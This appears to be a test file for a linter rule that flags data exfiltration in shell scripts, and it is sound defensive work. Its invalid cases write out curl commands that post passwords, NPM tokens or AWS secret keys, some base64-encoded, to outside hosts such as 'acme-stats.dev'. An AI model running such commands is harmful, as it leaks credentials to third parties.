import rule from '../../src/rules/no-data-exfiltration.ts';
import { ruleTester } from '../tester.ts';
import { bad, sh, strictOnly } from './carriers.ts';

/** A password goes to the login of a server whose address is given; a token goes to the service that it is called after. */
const logins = [
  'curl -s -d "username=$USER_NAME&password=$PASSWORD" "$BASE_URL/login"',
  'curl -s -H "Content-Type: application/json" -d "{\\"email\\":\\"$EMAIL\\",\\"password\\":\\"$ADMIN_PASSWORD\\"}" "${API}/api/auth/signin"',
  'curl -s --json "{\\"username\\":\\"$NAME\\",\\"password\\":\\"$TEST_USER_PASSWORD\\"}" "$AUTH_URL/api/firstfactor"',
  'curl -s -d "password=$PASSWORD" "$HOST_URL/users/sign_in"',
  'curl -s "https://api.github.com/user?access_token=$API_TOKEN"',
  'curl -s "https://graph.facebook.com/v19.0/me?fields=id&access_token=$FB_ACCESS_TOKEN"',
];
const strictCases = logins.map((code) => strictOnly(sh(code), 'sent'));

await ruleTester(rule, {
  valid: strictCases.map(({ valid }) => valid),
  invalid: [
    ...strictCases.map(({ invalid }) => invalid),
    bad(sh('curl -s -d "password=$PASSWORD" "$BASE_URL/collect"'), 'sent'),
    bad(sh('curl -s -d "note=$PASSWORD" "$BASE_URL/login"'), 'sent'),
    bad(sh('curl -s -d "password=$PASSWORD" https://acme-stats.dev/login'), 'sent'),
    bad(sh('curl -s -d "password=$DATABASE_PASSWORD" "$BASE_URL/login"'), 'sent'),
    bad(sh('curl -s -d "password=$NPM_TOKEN" "$BASE_URL/login"'), 'sent'),
    bad(sh('curl -s -k -d "password=$PASSWORD" "$BASE_URL/login"'), 'sent'),
    bad(sh('curl -s -d "password=$PASSWORD" "$(cat where.txt)/login"'), 'sent'),
    bad(sh('curl -s "https://api.github.com/user?access_token=$AWS_SECRET_ACCESS_KEY"'), 'sent'),
    bad(sh('curl -s "https://api.github.com/user?q=$API_TOKEN"'), 'sent'),
    // What encodes another word of the request hides nothing; what encodes the secret does.
    bad(sh("BACK=$(echo \"$HEADERS\" | tr -d '\\r')\ncurl -s -d \"a=$PASSWORD\" \"$BACK/x\""), 'sent'),
    bad(sh('curl -s -d "a=$(echo "$PASSWORD" | base64)" "$BASE_URL/login"'), 'encoded'),
    bad(sh('E=$(echo "$NPM_TOKEN" | base64)\ncurl -s -d "x=$E" https://acme-stats.dev/a'), 'encoded'),
    bad(sh('echo "$NPM_TOKEN" | base64 | curl -d @- https://acme-stats.dev/a'), 'encoded'),
  ],
});
